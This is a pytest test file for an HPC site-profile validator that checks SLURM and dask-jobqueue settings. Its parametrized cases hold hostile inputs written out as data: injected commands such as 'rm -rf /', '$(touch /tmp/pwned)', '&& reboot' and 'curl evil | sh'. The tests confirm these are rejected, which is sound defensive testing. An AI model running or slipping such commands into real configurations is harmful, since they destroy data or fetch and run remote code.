"""Site profiles: validation, rejection of shell metacharacters, dask-jobqueue arguments."""

from __future__ import annotations

import pytest

from climmig.hpc.site import SiteError, load_site, memory_mib, parse_site


def test_bundled_profiles_are_valid():
    local = load_site("local")
    assert local.partition == "debug" and local.interface == "lo"
    example = load_site("example-cluster")
    assert example.account and example.prologue


def test_unknown_site_lists_known_ones():
    with pytest.raises(SiteError, match="known sites: .*local"):
        load_site("no-such-site")


@pytest.mark.parametrize("field, value", [
    ("partition", "debug; rm -rf /"),
    ("partition", "debug\nrm -rf /"),
    ("account", "$(touch /tmp/pwned)"),
    ("account", "proj`id`"),
    ("qos", "a|b"),
    ("interface", "ib0 && reboot"),
    ("python", "python3; rm -rf /"),
    ("walltime", "01:00:00; rm"),
    ("memory", "4GB; rm"),
    ("log_directory", "logs > /etc/passwd"),
])
def test_shell_metacharacters_are_rejected(field, value):
    with pytest.raises(SiteError, match=field):
        parse_site({"name": "x", field: value})


@pytest.mark.parametrize("line", [
    "module load python; rm -rf /",
    "rm -rf /",
    "module load $(curl evil)",
    "source venv/bin/activate && curl evil | sh",
    "export X=$(id)",
    "module load 'a b'",
])
def test_prologue_lines_are_whitelisted(line):
    with pytest.raises(SiteError, match="prologue"):
        parse_site({"name": "x", "prologue": [line]})


def test_prologue_lines_are_rebuilt_from_checked_words():
    s = parse_site({"name": "x", "prologue": ["module  load   python/3.11", "export OMP_NUM_THREADS=1"]})
    assert s.prologue == ["module load python/3.11", "export OMP_NUM_THREADS=1"]


@pytest.mark.parametrize("opt", ["--wrap=x", "--array=0-3", "--dependency=afterok:1", "--output=/x",
                                 "--constraint=cpu rm", "-p debug"])
def test_extra_sbatch_rejects_reserved_or_unsafe(opt):
    with pytest.raises(SiteError, match="extra_sbatch"):
        parse_site({"name": "x", "extra_sbatch": [opt]})


def test_unknown_keys_are_rejected():
    with pytest.raises(SiteError, match="partiton"):
        parse_site({"name": "x", "partiton": "debug"})


@pytest.mark.parametrize("text, mib", [("4GB", 4096), ("4GiB", 4096), ("4G", 4096), ("512M", 512),
                                       ("1.5G", 1536), ("2T", 2 * 1024 * 1024)])
def test_memory_parsing(text, mib):
    assert memory_mib(text) == mib


def test_dask_kwargs(site):
    kw = site.dask_kwargs()
    assert kw["queue"] == "compute" and kw["account"] == "proj123"
    assert kw["cores"] == 4 and kw["memory"] == "16384MiB" and kw["walltime"] == "04:00:00"
    assert kw["python"] == "/opt/venv/bin/python"
    assert kw["job_script_prologue"][0] == "module load python/3.11"
    assert kw["job_extra_directives"] == ["--constraint=cpu"]


def test_dask_kwargs_build_a_slurm_job_script(site):
    jq = pytest.importorskip("dask_jobqueue")
    from dask_jobqueue.slurm import SLURMJob

    script = SLURMJob(scheduler="tcp://127.0.0.1:8786", name="w", **site.dask_kwargs()).job_script()
    assert "#SBATCH -p compute" in script
    assert "#SBATCH -A proj123" in script
    assert "#SBATCH --constraint=cpu" in script
    assert "module load python/3.11" in script
    assert "/opt/venv/bin/python -m distributed.cli.dask_worker" in script
    assert jq is not None


def test_merge_resources_default_to_the_task_resources(site):
    assert site.for_merge().cores == 4 and site.for_merge().memory == "16GB"
    big = parse_site({**site.model_dump(), "merge_cores": 8, "merge_memory": "64GB", "merge_walltime": "12:00:00"})
    merge = big.for_merge()
    assert (merge.cores, merge.memory_mib, merge.walltime) == (8, 65536, "12:00:00")
    assert (big.cores, big.walltime) == (4, "04:00:00")  # the array tasks keep theirs


@pytest.mark.parametrize("field, value", [("merge_memory", "64GB; rm -rf /"), ("merge_walltime", "12:00; id")])
def test_merge_resources_are_checked(field, value):
    with pytest.raises(SiteError, match=field):
        parse_site({"name": "x", field: value})
